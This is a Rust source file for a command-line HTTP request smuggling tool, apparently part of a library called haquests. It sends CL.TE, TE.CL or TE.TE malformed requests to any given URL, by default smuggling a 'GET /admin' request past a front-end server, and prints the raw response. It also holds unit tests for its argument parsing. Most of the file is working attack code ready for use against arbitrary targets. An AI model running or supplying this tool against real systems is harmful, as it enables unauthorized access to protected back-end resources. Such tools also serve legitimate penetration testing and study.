//! Send one of the CL.TE/TE.CL/TE.TE payload shapes against a target and
//! print the raw response bytes received back, so the caller can inspect
//! the front-end/back-end disagreement by hand. Grounded on
//! `original_source/examples/smuggling_clte.cpp`, which takes a single
//! URL argument and hardcodes both the technique (CL.TE) and the
//! smuggled payload; those become this binary's defaults, overridable
//! with `--type` and `--payload`.

use haquests::http::{self, SmugglingType};
use std::process::ExitCode;
use tracing::{error, info};

const DEFAULT_SMUGGLED_REQUEST: &str = "GET /admin HTTP/1.1\r\nHost: vulnerable-server.com\r\n\r\n";

fn parse_url(url: &str) -> Option<(String, u16, String)> {
    let rest = url.strip_prefix("http://")?;
    let (authority, path) = match rest.find('/') {
        Some(idx) => (&rest[..idx], &rest[idx..]),
        None => (rest, "/"),
    };
    let (host, port) = match authority.rsplit_once(':') {
        Some((h, p)) => (h.to_string(), p.parse().ok()?),
        None => (authority.to_string(), 80),
    };
    Some((host, port, path.to_string()))
}

fn parse_kind(s: &str) -> Option<SmugglingType> {
    match s.to_ascii_lowercase().as_str() {
        "cl.te" | "clte" => Some(SmugglingType::ClTe),
        "te.cl" | "tecl" => Some(SmugglingType::TeCl),
        "te.te" | "tete" => Some(SmugglingType::TeTe),
        _ => None,
    }
}

fn run(url: &str, kind: SmugglingType, smuggled: &str) -> haquests::Result<()> {
    let (host, port, path) =
        parse_url(url).ok_or_else(|| haquests::HaquestsError::Parse(format!("invalid URL: {url}")))?;

    let mut req = http::build_malformed(&path, smuggled, kind);
    req.set_header("Host", &host);

    info!(%host, port, ?kind, "smuggle: sending payload");
    let mut conn = haquests::TcpConnection::connect(&host, port)?;
    conn.send(&req.build_raw())?;

    let mut raw = Vec::new();
    for _ in 0..40 {
        let chunk = conn.receive(4096)?;
        if chunk.is_empty() {
            if !raw.is_empty() {
                break;
            }
            continue;
        }
        raw.extend_from_slice(&chunk);
    }

    println!("--- request sent ---");
    print!("{}", req.build());
    println!("--- raw response ({} bytes) ---", raw.len());
    println!("{}", String::from_utf8_lossy(&raw));

    conn.close();
    Ok(())
}

/// Parse `[--type <cl.te|te.cl|te.te>] [--payload <smuggled-request>]
/// <http-url>`, in any order. Only `url` is required.
fn parse_args(args: &[String]) -> Result<(String, SmugglingType, String), String> {
    let mut url = None;
    let mut kind = SmugglingType::ClTe;
    let mut payload = DEFAULT_SMUGGLED_REQUEST.to_string();

    let mut i = 0;
    while i < args.len() {
        match args[i].as_str() {
            "--type" => {
                let value = args.get(i + 1).ok_or("--type requires a value")?;
                kind = parse_kind(value).ok_or_else(|| format!("unknown smuggling type: {value}"))?;
                i += 2;
            }
            "--payload" => {
                let value = args.get(i + 1).ok_or("--payload requires a value")?;
                payload = value.clone();
                i += 2;
            }
            other => {
                if url.is_some() {
                    return Err(format!("unexpected argument: {other}"));
                }
                url = Some(other.to_string());
                i += 1;
            }
        }
    }

    let url = url.ok_or("missing <http-url>")?;
    Ok((url, kind, payload))
}

fn main() -> ExitCode {
    haquests::logging::init();

    let args: Vec<String> = std::env::args().skip(1).collect();
    let (url, kind, smuggled) = match parse_args(&args) {
        Ok(parsed) => parsed,
        Err(message) => {
            eprintln!("{message}");
            eprintln!("usage: smuggle [--type <cl.te|te.cl|te.te>] [--payload <smuggled-request>] <http-url>");
            return ExitCode::FAILURE;
        }
    };

    match run(&url, kind, &smuggled) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            error!(error = %e, "smuggle: failed");
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_kind_accepts_dotted_and_compact_forms() {
        assert_eq!(parse_kind("CL.TE"), Some(SmugglingType::ClTe));
        assert_eq!(parse_kind("tecl"), Some(SmugglingType::TeCl));
        assert_eq!(parse_kind("bogus"), None);
    }

    #[test]
    fn parse_args_defaults_to_cl_te_and_canned_payload() {
        let args = vec!["http://example.com".to_string()];
        let (url, kind, payload) = parse_args(&args).unwrap();
        assert_eq!(url, "http://example.com");
        assert_eq!(kind, SmugglingType::ClTe);
        assert_eq!(payload, DEFAULT_SMUGGLED_REQUEST);
    }

    #[test]
    fn parse_args_accepts_overrides_in_any_order() {
        let args = vec![
            "--type".to_string(),
            "te.cl".to_string(),
            "--payload".to_string(),
            "GET /secret HTTP/1.1\r\n\r\n".to_string(),
            "http://example.com".to_string(),
        ];
        let (url, kind, payload) = parse_args(&args).unwrap();
        assert_eq!(url, "http://example.com");
        assert_eq!(kind, SmugglingType::TeCl);
        assert_eq!(payload, "GET /secret HTTP/1.1\r\n\r\n");
    }

    #[test]
    fn parse_args_requires_a_url() {
        let args = vec!["--type".to_string(), "cl.te".to_string()];
        assert!(parse_args(&args).is_err());
    }
}
